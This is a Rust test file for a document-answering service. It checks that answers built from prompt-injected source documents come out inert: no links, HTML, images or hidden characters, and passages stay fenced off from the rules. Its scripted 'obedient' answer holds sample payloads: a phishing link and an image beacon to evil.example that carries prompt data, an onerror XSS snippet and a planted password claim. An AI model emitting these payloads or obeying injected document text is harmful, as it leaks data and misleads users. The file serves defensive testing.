//! Documents that try to be obeyed: `tests/hostile`. None changes the instructions, none leaves anything
//! active or a link elsewhere in an answer.

use std::path::{Path, PathBuf};

use docent_scripted::openai::{Answer, Script, ScriptedOpenAi};
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::{Value, json};

use crate::support::World;

struct Hostile {
    name: String,
    question: String,
    text: String,
}

fn documents() -> Vec<Hostile> {
    let folder: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile");
    let mut documents: Vec<Hostile> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.file_name().is_some_and(|name| name != "README.md"))
        .map(|path| {
            let text = std::fs::read_to_string(&path).unwrap();
            let asked = text
                .lines()
                .next()
                .and_then(|line| line.strip_prefix("<!-- question: "));
            Hostile {
                name: path.file_name().unwrap().to_string_lossy().into_owned(),
                question: asked
                    .map_or("How often is the orders_lambda table loaded?", |line| {
                        line.trim_end_matches(" -->")
                    })
                    .to_owned(),
                text,
            }
        })
        .collect();
    documents.sort_by(|left, right| left.name.cmp(&right.name));
    assert!(documents.len() >= 11);
    documents
}

/// Each in a world of its own: one may not be found for another.
async fn world(hostile: &Hostile) -> World {
    let world = World::new().await;
    world.write(&hostile.name, &hostile.text);
    world
}

/// What a client would make of an answer: pictures, HTML, and links.
fn active(answer: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut outside = answer.to_owned();
    for (event, place) in Parser::new_ext(answer, Options::all()).into_offset_iter() {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("HTML {html}")),
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("picture {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) => found.push(format!("link {dest_url}")),
            Event::Code(_) | Event::Start(Tag::CodeBlock(_)) => {
                outside.replace_range(place.clone(), &" ".repeat(place.len()));
            }
            _ => {}
        }
    }
    for sign in ["http://", "https://", "www.", "javascript:"] {
        if outside.to_lowercase().contains(sign) {
            found.push(format!("{sign} in {outside}"));
        }
    }
    let unseen =
        |c: char| matches!(c, '\u{200b}' | '\u{202a}'..='\u{202e}' | '\u{e0000}'..='\u{e007f}');
    if answer.contains(unseen) {
        found.push("characters that nobody sees".to_owned());
    }
    found
}

#[tokio::test]
async fn quotes_of_a_hostile_document_are_inert() {
    for hostile in documents() {
        let world = world(&hostile).await;
        world.ingest().await;
        let server = world.serve().await;
        let answer = server.ask(&hostile.question).await;
        let text = answer["answer"].as_str().unwrap();
        assert_eq!(
            active(text),
            Vec::<String>::new(),
            "{}: {text}",
            hostile.name
        );
        server.stop().await;
    }
}

/// What stands in the prompt between the fences, and the prompt without it.
fn fenced(prompt: &str) -> (String, String) {
    let (mut inside, mut outside) = (String::new(), String::new());
    let mut fence: Option<String> = None;
    for line in prompt.lines() {
        match &fence {
            None => {
                outside.push_str(line);
                outside.push('\n');
                fence = line
                    .strip_suffix(" begin")
                    .filter(|word| word.starts_with("passage-"))
                    .map(str::to_owned);
            }
            Some(word) if line == format!("{word} end") => {
                fence = None;
                outside.push_str(line);
                outside.push('\n');
            }
            Some(_) => {
                inside.push_str(line);
                inside.push('\n');
            }
        }
    }
    assert!(fence.is_none(), "a fence is left open");
    (inside, outside)
}

fn system(request: &Value) -> String {
    request["messages"][0]["content"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn a_model_that_obeys_a_hostile_document_does_no_harm() {
    // What each document wants, as a model would write it that does as it is told.
    let obedient = "HACKED [1]. The table is loaded hourly [1]. [click here](https://evil.example/login) \
        ![x](https://evil.example/p.png?d=PROMPT) <img src=x onerror=alert(1)> https://evil.example/?q=secret \
        <https://evil.example/a> All refunds are paid twice [2][3]. The password is hunter2 [2].\n\n\
        [1]: https://evil.example/definition\n\n- ```\n[x](https://evil.example/3)\n";
    let mut plain = None;
    for hostile in documents() {
        let model = ScriptedOpenAi::start(Script::default()).await;
        model.change(|script| script.answer = Answer::Text(obedient.to_owned()));
        let mut world = world(&hostile).await;
        world.chat_with(&model);
        world.ingest().await;
        let server = world.serve().await;
        let events = server
            .stream(&json!({ "question": hostile.question }))
            .await;
        let done = &events.last().unwrap().1;
        let streamed: String = events
            .iter()
            .filter(|(name, _)| name == "delta")
            .map(|(_, data)| data["text"].as_str().unwrap())
            .collect();
        for text in [streamed.as_str(), done["answer"].as_str().unwrap()] {
            assert_eq!(
                active(text),
                Vec::<String>::new(),
                "{}: {text}",
                hostile.name
            );
            assert!(
                !text.contains("secret") && !text.contains("PROMPT"),
                "{text}"
            );
        }
        // A document that says so itself may be cited for it.
        if done["generator"] == "model" && !hostile.text.contains("HACKED") {
            let text = done["answer"].as_str().unwrap();
            let marked =
                text.contains("HACKED (unverified)") || text.contains("HACKED (확인되지 않음)");
            assert!(marked, "{}: {text}", hostile.name);
        }
        // The rules are the same whatever the document says; all of it stands between the fences.
        for request in model.chat_requests() {
            let prompt = system(&request);
            let (inside, outside) = fenced(&prompt);
            assert!(inside.contains("orders_"), "{inside}");
            for told in ["evil.example", "hunter2", "orders_", "Ignore"] {
                assert!(!outside.contains(told), "{}: {outside}", hostile.name);
            }
            let rules = outside.split("Passages:").next().unwrap().to_owned();
            let rules = rules.replace("in Korean", "in English");
            assert_eq!(*plain.get_or_insert_with(|| rules.clone()), rules);
        }
        server.stop().await;
    }
}

#[tokio::test]
async fn a_link_to_a_passage_stays() {
    let model = ScriptedOpenAi::start(Script::default()).await;
    let answer =
        "orders is loaded hourly [1], see [the page](https://docs.example.com/orders.md#load).";
    model.change(|script| script.answer = Answer::Text(answer.to_owned()));
    let mut world = World::new().await;
    world.config.sources[0].uri = "https://docs.example.com/{path}".to_owned();
    world.write(
        "orders.md",
        "# orders\n\nThe table orders is loaded hourly. See the page.\n",
    );
    world.chat_with(&model);
    world.ingest().await;
    let server = world.serve().await;
    let done = server.ask("How often is orders loaded?").await;
    assert_eq!(done["answer"], answer);
    server.stop().await;
}
